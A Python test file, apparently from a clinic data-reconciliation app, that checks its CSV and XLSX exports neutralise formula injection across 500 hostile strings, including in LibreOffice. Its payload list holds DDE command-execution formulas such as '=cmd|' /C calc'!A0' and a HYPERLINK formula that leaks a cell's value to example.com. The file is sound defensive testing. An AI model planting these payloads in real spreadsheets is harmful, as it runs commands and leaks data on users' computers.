"""500 hostile texts through every file that people take away: each comes back as it was, and none is a formula (1.2.10, K46).

`make test` reads the files with csv and openpyxl; `make proof` also opens them in LibreOffice, where there is one.
"""

import csv
import io
import json
import re
import shutil
import subprocess
from collections.abc import Iterator, Sequence
from itertools import product
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from integrations.core.cells import plain_cell, safe_cell
from integrations.models import Flow
from integrations.services.jobs import load_job
from reconciliation.compare import Mismatch as Kind
from reconciliation.exports import summary_csv, summary_xlsx
from reconciliation.judging import bound_to
from reconciliation.models import Mismatch
from reconciliation.summary import Line
from tenants.models import Tenant
from tenants.walls import app_now, tenant_tx
from tests.conftest import House, sign_in
from tests.desk_rows import make_flow
from tests.report_rows import done
from tests.shell.conftest import WITHOUT_OFFICE

pytestmark = pytest.mark.django_db
LISTED = "/clinic/reconciliation/mismatch/"
WHOLE = {"_selected_action": "0", "select_across": "1", "index": "0"}
HEADS = (
    "", " ", "\t", "\r", "\n", "\r\n", "\0", "\ufeff", "\u200b", "\u200d", "\u2060", "\u00a0", "\u3000", "'", "''", '"',
    " '", "\v", "\x1f",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com/?\"&A1,\"x\")", "＝1+1", "＋1+1",
    "－1+1", "＠SUM(1)", "=DDE(\"a\";\"b\";\"c\")", "+cmd|'/C x'!Z0", "-2+3+cmd|'/C x'!A0",
)  # fmt: skip
OTHERS = (
    "O'Brien", 'a "quoted" word', "two\nlines", "a,b;c\td", "Zoë Ångström", "李小龙", "👩🏽‍⚕️", "1e3", "007", "2026-03-02", "TRUE", "#REF!",
    "x=1", "\u202eevil", "a\uffffb", "a\x0bb",
)  # fmt: skip
LISTED_TEXTS = [head + formula for head, formula in product(HEADS, FORMULAS)] + [*OTHERS]
MADE = st.lists(
    st.builds("".join, st.tuples(st.sampled_from(HEADS), st.sampled_from("=+-@＝＋－＠x"), st.text(max_size=12))),
    min_size=500 - len(LISTED_TEXTS),
    max_size=500 - len(LISTED_TEXTS),
)
MAKING = {
    "deadline": None,
    "derandomize": True,
    "phases": [Phase.generate],  # a smaller file fails no more clearly, and each takes a second
    "suppress_health_check": [
        HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large
    ],
    "max_examples": 2,  # the first is the plainest
}  # fmt: skip
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.fixture
def flow(house: House) -> Flow:
    return make_flow(house.harbour)


def told(flow: Flow, texts: Sequence[str]) -> None:
    """Mismatches whose two values are these texts, two by two; what the keys may hold is hostile, too."""
    report = done(flow, agree=1)
    now = app_now()
    with tenant_tx(flow.tenant_id):
        vault = load_job(flow.pk).vault
        Mismatch.objects.all().delete()
        rows = []
        for number in range(0, len(texts), 2):
            keys = (f"={number}", f"@{number}")
            sealed = vault.seal(
                json.dumps(texts[number : number + 2]).encode(),
                bound_to=bound_to(flow.pk, Kind.DIFFERENT.value, *keys, "lastName"),
            )
            rows.append(
                Mismatch(
                    tenant_id=flow.tenant_id, flow=flow, report=report, kind=Kind.DIFFERENT.value, source_key=keys[0],
                    target_key=keys[1], field="lastName", sealed_values=sealed, first_seen=now, last_seen=now,
                )
            )  # fmt: skip
        Mismatch.objects.bulk_create(rows)


def files(house: House) -> tuple[bytes, bytes]:
    """The CSV and the XLSX as a manager takes them away."""
    client = sign_in(house.olga)
    taken = client.post(LISTED, {"action": "download_csv", **WHOLE})
    book = client.post(LISTED, {"action": "download_xlsx", **WHOLE})
    return b"".join(taken.streaming_content), book.content


VALUES = ("Value at the source", "Value at the target")


def texts_of_csv(raw: bytes) -> list[str]:
    lines = csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    return [line[name] for line in lines for name in VALUES]


def texts_of_xlsx(raw: bytes) -> list[str]:
    head, *rows = openpyxl.load_workbook(io.BytesIO(raw)).worksheets[0].values
    places = [head.index(name) for name in VALUES]
    return [str(row[place] or "") for row in rows for place in places]


def formulas_of(raw: bytes) -> list[str]:
    """Cells that the file itself calls formulas."""
    (sheet,) = openpyxl.load_workbook(io.BytesIO(raw)).worksheets
    return [str(cell.value) for row in sheet.rows for cell in row if cell.data_type == "f"]


@settings(**MAKING)
@given(made=MADE)
def test_500_hostile_texts_come_back_as_they_were(house: House, flow: Flow, made: list[str]) -> None:
    texts = LISTED_TEXTS + made
    assert len(texts) == 500
    told(flow, texts)
    raw, book = files(house)
    cells = texts_of_csv(raw)
    assert [plain_cell(cell) for cell in cells] == texts
    assert not [cell for cell in cells if _looks_like_a_formula(cell)]
    assert formulas_of(book) == []
    assert texts_of_xlsx(book) == [_as_xlsx(safe_cell(text)) for text in texts]


def _looks_like_a_formula(cell: str) -> bool:
    bare = cell.strip(" \t\r\n\0\v\x1f\ufeff\u200b\u200d\u2060\u00a0\u3000")
    return bare[:1] in set("=+-@＝＋－＠") and bool(bare)


def _as_xlsx(text: str) -> str:
    """XML knows one kind of line end, and some characters not at all."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", re.sub("\r\n?", "\n", text))


def hostile_lines(texts: Sequence[str]) -> list[Line]:
    return [Line(Flow(name=text, kind="patients-to-customers", tenant=Tenant(name=text))) for text in texts]


def test_names_in_the_summarys_files_are_texts() -> None:
    raw = "".join(summary_csv(hostile_lines(LISTED_TEXTS)))
    lines = list(csv.DictReader(io.StringIO(raw.removeprefix("\ufeff"), newline="")))
    assert [plain_cell(line["Clinic"]) for line in lines] == LISTED_TEXTS
    assert not [line for line in lines if _looks_like_a_formula(line["Clinic"]) or _looks_like_a_formula(line["Flow"])]
    assert formulas_of(summary_xlsx(hostile_lines(LISTED_TEXTS))) == []


# -- in a real spreadsheet

CSV_FILTER = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
"""Comma, double quote, UTF-8, from line 1, ...; the last word: what looks like a formula is one."""


@pytest.fixture
def office(tmp_path: Path) -> Iterator[Any]:
    if SOFFICE is None:
        pytest.skip(WITHOUT_OFFICE)

    def formulas(name: str, raw: bytes, *options: str) -> int:
        """How many formulas the office finds in the file."""
        (tmp_path / name).write_bytes(raw)
        subprocess.run(
            [
                str(SOFFICE), f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", *options, "--convert-to", "fods",
                "--outdir", str(tmp_path), str(tmp_path / name),
            ],
            check=True, capture_output=True, timeout=300,
        )  # fmt: skip
        made = (tmp_path / name).with_suffix(".fods").read_text()
        assert "<table:table-cell" in made
        return made.count("table:formula=")

    yield formulas


@pytest.mark.proof
@settings(**MAKING)
@given(made=MADE)
def test_libreoffice_finds_no_formula_in_any_of_them(house: House, flow: Flow, office: Any, made: list[str]) -> None:
    texts = LISTED_TEXTS + made
    told(flow, texts)
    raw, book = files(house)
    bare = io.StringIO()
    csv.writer(bare).writerows([text] for text in texts)
    assert office("bare.csv", bare.getvalue().encode(), f"--infilter={CSV_FILTER}") > 5  # it would find them
    assert office("mismatches.csv", raw, f"--infilter={CSV_FILTER}") == 0
    assert office("book.xlsx", book) == 0
    lines = hostile_lines(texts)
    assert office("agreement.csv", "".join(summary_csv(lines)).encode(), f"--infilter={CSV_FILTER}") == 0
    assert office("summary.xlsx", summary_xlsx(lines)) == 0
